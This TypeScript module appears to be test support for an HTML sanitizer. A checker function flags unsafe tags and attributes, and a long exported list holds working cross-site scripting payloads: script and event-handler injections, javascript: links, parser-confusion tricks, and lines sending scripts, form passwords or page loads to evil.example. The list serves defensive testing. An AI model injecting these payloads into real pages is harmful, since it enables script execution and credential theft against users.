import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5'

type Node = DefaultTreeAdapterTypes.ChildNode
type Element = DefaultTreeAdapterTypes.Element

/** What a browser could run, load, submit or be fooled by in a piece of HTML; parsed again as a browser does. */
export function findDangers(html: string): string[] {
  return [...elementsIn(parseFragment(html).childNodes)].flatMap((element) => [
    ...(allowedTags.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...(element.namespaceURI === 'http://www.w3.org/1999/xhtml'
      ? []
      : [`${element.tagName} of ${element.namespaceURI}`]),
    ...element.attrs.flatMap(({ name, value }) =>
      isSafe(element, name, value) ? [] : [`${element.tagName} ${name}=${value}`],
    ),
  ])
}

/** Every element below some nodes, in document order. */
export function* elementsIn(nodes: readonly Node[]): Generator<Element> {
  for (const node of nodes) {
    if ('tagName' in node) yield node
    if ('childNodes' in node) yield* elementsIn(node.childNodes)
  }
}

const allowedTags = new Set(
  `a abbr b bdi bdo blockquote br center cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i
  img input ins kb-tabs kbd li mark ol p pre q rp rt ruby s samp section small span strike strong sub summary sup table
  tbody td tfoot th thead time tr tt u ul var`.split(/\s+/),
)

const plainAttributes = new Set(
  `abbr align alt aria-describedby aria-hidden aria-label aria-labelledby checked class colspan data-footnote-backref
  data-footnote-ref data-footnotes data-label datetime dir disabled height id lang open reversed role rowspan scope
  start tabindex title type value width`.split(/\s+/),
)

function isSafe(element: Element, name: string, value: string): boolean {
  if (name === 'href') return /^(?:https?:\/\/|mailto:|tel:|ircs?:|xmpp:|#|kb:ref\/\d+$)/i.test(value)
  if (name === 'src') return /^(?:kb:ref\/\d+$|data:image\/(?:png|gif|jpeg|webp|avif);base64,)/.test(value)
  if (name === 'cite') return /^https?:/.test(value)
  if (name === 'type' && element.tagName === 'input') return value === 'checkbox'
  // The interface's own ids start so.
  if (name === 'id') return !value.startsWith('kb-') && value !== ''
  return plainAttributes.has(name)
}

export const payloads = [
  // Scripts
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script >alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script>a</script><!-- --!><script>b</script>',
  'text <script>alert(1)</script> text',
  '- item\n\n  <script>\n\n  alert(1)\n\n  </script>',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src=x OnErRoR = "alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror="alert&#40;1&#41;">',
  '<img src=x\tonerror\n=\nalert(1)>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<div onpointerrawupdate=alert(1) onmouseover=alert(1)>x</div>',
  '<p onfocus=alert(1) autofocus tabindex=1 contenteditable>x</p>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input type=image src=x onerror=alert(1)>',
  '<div style="animation-name:x" onanimationstart=alert(1)>x</div>',
  // Addresses
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](java&#115;cript:alert(1))',
  '[x](&#x6a;avascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](DATA:image/svg+xml;base64,PHN2Zy8+)',
  '[x](blob:https://evil.example/1)',
  '[x](file:///etc/passwd)',
  '[x](view-source:javascript:alert(1))',
  '[x](kb:ref/0)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="javascript\u200b:alert(1)">x</a>',
  '<a href="ｊavascript:alert(1)">x</a>',
  '<a href="kb:ref/0">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a ping="https://evil.example" href="/x">x</a>',
  '<a href="/x" target="_blank" rel="opener" download>x</a>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '<img src="javascript:alert(1)">',
  '<img srcset="https://evil.example/x 2x" src=x>',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '![x](https://tracker.example/pixel.gif)',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<q cite="data:text/html,x">x</q>',
  '<table background="javascript:alert(1)"><tr><td background="//evil.example">x</td></tr></table>',
  // Frames, plugins, forms
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset onload=alert(1)><frame src=x></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<applet code=x></applet>',
  '<portal src="https://evil.example"></portal>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)" form="kb-search">x</button>',
  '<input type="submit" formaction="javascript:alert(1)" value="x">',
  '<isindex action="javascript:alert(1)" type=image>',
  '<select onchange=alert(1)><option>x</select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<div popover id=x onbeforetoggle=alert(1)>x</div>',
  // The document
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,x">',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
  '<font color="red" face="x" style="x">x</font>',
  '<html onmouseover=alert(1)><head><title>x</title></head><body>y</body></html>',
  '<title><script>alert(1)</script></title>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
  '<slot name=x onslotchange=alert(1)></slot>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  // Foreign content and parsers that disagree
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><td><svg><desc><td><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!doctype html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '<a title="`<img src=x onerror=alert(1)>`">x</a>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '```js onload=alert(1) "><script>\nx\n```',
  '<pre><code class="language-html"><img src=x onerror=alert(1)></code></pre>',
  '<pre><code class="language-x&quot;onclick=alert(1)">x</code></pre>',
  // Names that scripts look up
  '<a id="kb-search" name="kb-search">x</a>',
  '<img name="getElementById" id="kb-dialog" src="x">',
  '<form id=document><input name=cookie></form>',
  '<a id=location name=location href="tel:1">x</a>',
  '<div is="kb-search" slot=x part=y exportparts=z nonce=abc>x</div>',
  '<kb-search-dialog src="https://evil.example">x</kb-search-dialog>',
  '## Heading {#kb-search}',
  // The product's own notation
  '> [!NOTE] <img src=x onerror=alert(1)>\n> x',
  ':::note[<img src=x onerror=alert(1)>]\nx\n:::',
  ':::note{label="<img src=x onerror=alert(1)>" onclick="alert(1)" style="x"}\nx\n:::',
  ':::tab{label="\\"onclick=alert(1)"}\nx\n:::',
  ':::script\nalert(1)\n:::',
  '<kb-tab data-label="<img src=x onerror=alert(1)>">x</kb-tab>',
  '<kb-callout data-type="x" data-label="y" onclick=alert(1)>x</kb-callout>',
  '# <img src=x onerror=alert(1)> {#"><script>}',
  '![<img src=x onerror=alert(1)>](x.png "<img src=x onerror=alert(1)>")',
  '![" onerror="alert(1)](x.png)',
  '[x](/y "\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '<https://a.example/"onmouseover="alert(1)>',
  'https://a.example/"onmouseover="alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
]

/** What makes dangers of each other, put together. */
export const dangerousPieces = [
  ...payloads,
  '\n',
  '\n\n',
  ' ',
  '> ',
  '- ',
  '`',
  '<',
  '>',
  '"',
  "'",
  '<!--',
  '-->',
  '<div ',
  '</div>',
  '<table>',
  '[',
  '](',
  ')',
]
